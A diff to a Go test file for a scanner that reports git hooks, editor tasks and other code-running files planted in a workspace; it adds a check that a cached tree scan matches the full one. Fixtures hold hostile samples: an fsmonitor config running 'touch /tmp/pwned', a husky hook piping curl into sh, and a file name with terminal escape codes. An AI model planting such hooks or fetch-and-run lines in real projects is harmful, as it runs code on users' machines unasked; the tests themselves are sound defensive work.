@@ -30,13 +30,25 @@ func read(t *testing.T, p string) string {
 	return string(b)
 }
 
-// scanText runs the scan and joins its findings.
-func scanText(workdir string, started time.Time, skip map[string]bool, before map[string]fingerprint) string {
-	var b strings.Builder
-	for _, f := range scan(workdir, started, skip, before, nil) {
-		b.WriteString(f.Text + "\n")
+// scanText runs the scan and joins its findings; the scan over a tree
+// read now (as the prewalk would have, after the changes) must find the
+// same.
+func scanText(t *testing.T, workdir string, started time.Time, skip map[string]bool, before map[string]fingerprint) string {
+	t.Helper()
+	join := func(fs []Finding) string {
+		var b strings.Builder
+		for _, f := range fs {
+			b.WriteString(f.Text + "\n")
+		}
+		return b.String()
 	}
-	return b.String()
+	full := join(scan(workdir, started, skip, before, nil, nil))
+	if tr := readTree(workdir, nil); !tr.complete {
+		t.Errorf("the tree of %s was not read whole", workdir)
+	} else if cached := join(scan(workdir, started, skip, before, nil, tr)); cached != full {
+		t.Errorf("the scan over the recorded tree differs from the full one:\n%s\nfull:\n%s", cached, full)
+	}
+	return full
 }
 
 // The scan after a run names a planted repository's hook and config, a
@@ -66,7 +78,7 @@ func TestScan(t *testing.T) {
 	// project's index, its fsmonitor runs on the user's git status).
 	nm := filepath.Join(root, "node_modules", "x", ".git")
 	write(t, filepath.Join(nm, "config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n")
-	got := scanText(root, started, nil, nil)
+	got := scanText(t, root, started, nil, nil)
 	for _, want := range []string{filepath.Join(sub, "config"), filepath.Join(sub, "hooks", "post-checkout"), filepath.Join(root, "pkg", ".vscode", "tasks.json"),
 		"files other tools run code from", filepath.Join(root, ".pi", "extensions", "x.ts"), filepath.Join(root, "opencode.json"),
 		filepath.Join(root, ".husky", "pre-commit"), filepath.Join(root, "pkg", ".devcontainer", "devcontainer.json"), filepath.Join(root, "pkg", "app.code-workspace"),
@@ -82,7 +94,7 @@ func TestScan(t *testing.T) {
 	}
 	// What the ledger's audit speaks for, and the run's placeholders, are
 	// not reported by the scan.
-	if got := scanText(root, started, map[string]bool{filepath.Join(sub, "config"): true}, nil); strings.Contains(got, filepath.Join(sub, "config")) {
+	if got := scanText(t, root, started, map[string]bool{filepath.Join(sub, "config"): true}, nil); strings.Contains(got, filepath.Join(sub, "config")) {
 		t.Errorf("a skipped path reported: %s", got)
 	}
 }
@@ -94,7 +106,7 @@ func TestScanQuotesNames(t *testing.T) {
 	started := time.Now().Add(-time.Second)
 	evil := "x\r\x1b[2Kok"
 	write(t, filepath.Join(root, evil, ".git", "config"), "[core]\n")
-	got := scanText(root, started, nil, nil)
+	got := scanText(t, root, started, nil, nil)
 	if strings.ContainsAny(got, "\r\x1b") {
 		t.Errorf("a control character reached the message: %q", got)
 	}
@@ -118,7 +130,7 @@ func TestScanReportsUnreadable(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer os.Chmod(hidden, 0o755)
-	got := scanText(root, started, nil, nil)
+	got := scanText(t, root, started, nil, nil)
 	if !strings.Contains(got, hidden) || !strings.Contains(got, "could not read") {
 		t.Errorf("an unreadable directory is not reported: %q", got)
 	}
@@ -160,14 +172,14 @@ func TestRecentBeforeNotPlanted(t *testing.T) {
 				want = husky
 				write(t, husky, "#!/bin/sh\ncurl x|sh\n")
 			}
-			got := scanText(root, started, nil, before)
+			got := scanText(t, root, started, nil, before)
 			if want == "" && got != "" {
 				t.Errorf("a run that changed nothing was reported: %s", got)
 			}
 			if want != "" && !strings.Contains(got, want) {
 				t.Errorf("%s, changed by the run, not reported: %q", want, got)
 			}
-			if without := scanText(root, started, nil, nil); !strings.Contains(without, config) {
+			if without := scanText(t, root, started, nil, nil); !strings.Contains(without, config) {
 				t.Errorf("without the snapshot %s is not reported (the test proves nothing): %q", config, without)
 			}
 		})
